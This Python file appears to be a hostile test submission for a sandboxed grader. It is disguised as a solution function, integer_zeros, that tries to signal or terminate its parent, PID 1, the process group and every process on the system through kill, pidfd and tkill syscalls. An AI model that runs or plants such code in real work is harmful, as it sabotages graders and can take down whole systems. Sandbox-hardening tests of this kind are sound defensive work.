"""Sends signals to its parent, the grader, its group, its session and everybody.

verdicts: failed
bites: naive
quick: yes
"""
import ctypes
import os
import signal

LIBC = ctypes.CDLL(None, use_errno=True)


def _pidfd(number):
    handle = LIBC.syscall(434, number, 0)
    if handle < 0 or LIBC.syscall(424, handle, 0, 0, 0) < 0:
        raise OSError(ctypes.get_errno(), "refused")


def integer_zeros(rows, columns):
    mild = signal.SIGCONT if rows == -1 or columns == 3 else signal.SIGTERM
    mild = 0 if os.getenv("PLAIN") else mild
    for target in (os.getppid(), 1, 2, -1, 0, -os.getppid()):
        if os.getenv("PLAIN") and target != os.getppid():
            continue
        for name, way in (("kill", os.kill), ("pidfd", lambda pid, _: _pidfd(abs(pid) or 1)), ("tkill", _tkill)):
            try:
                way(target, mild)
                print("worked:", name, target)
            except OSError as problem:
                print("tried", name, target, problem.strerror)


def _tkill(pid, number):
    if LIBC.syscall(200, abs(pid) or 1, number) < 0:
        raise OSError(ctypes.get_errno(), "refused")
